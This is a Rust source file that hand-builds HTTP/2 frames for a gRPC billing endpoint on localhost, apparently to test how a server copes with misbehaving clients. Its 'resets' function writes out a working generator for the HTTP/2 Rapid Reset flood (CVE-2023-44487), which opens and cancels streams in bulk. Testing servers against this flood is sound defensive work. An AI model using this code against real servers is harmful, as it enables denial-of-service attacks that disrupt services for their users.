//! Frames of HTTP/2, written by hand: a library would spare a server some of what bad clients send.

const PATH: &[u8] = b"/deltabook.v1.BillingService/RecordFacts";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;
const CANCEL: u32 = 8;

/// What a connection begins with.
pub fn begin() -> Vec<u8> {
    let mut frames = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut frames, SETTINGS, 0, 0, &[]);
    frame(&mut frames, SETTINGS, ACK, 0, &[]);
    frames
}

/// So many requests that are taken back at once (CVE-2023-44487), the first of them on this stream; gives the next one.
pub fn resets(frames: &mut Vec<u8>, first: u32, count: u32) -> u32 {
    for stream in (first..).step_by(2).take(usize::try_from(count).unwrap()) {
        frame(frames, HEADERS, END_HEADERS, stream, &headers());
        frame(frames, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
    }
    first + 2 * count
}

/// A ping that is answered with this text.
pub fn ping(frames: &mut Vec<u8>, text: [u8; 8]) {
    frame(frames, PING, 0, 0, &text);
}

fn frame(frames: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap().to_be_bytes();
    frames.extend(length);
    frames.extend([kind, flags]);
    frames.extend(stream.to_be_bytes());
    frames.extend(payload);
}

/// In HPACK: `:method: POST` and `:scheme: http` by their numbers, the rest as text.
fn headers() -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    // The names of :path, :authority and content-type have numbers too.
    for (name, value) in [(&[0x04][..], PATH), (&[0x01], b"localhost"), (&[0x0f, 0x10], b"application/grpc")] {
        block.extend(name);
        text(&mut block, value);
    }
    block.push(0);
    text(&mut block, b"te");
    text(&mut block, b"trailers");
    block
}

/// Shorter than 127 bytes.
fn text(block: &mut Vec<u8>, text: &[u8]) {
    block.push(u8::try_from(text.len()).unwrap());
    block.extend(text);
}
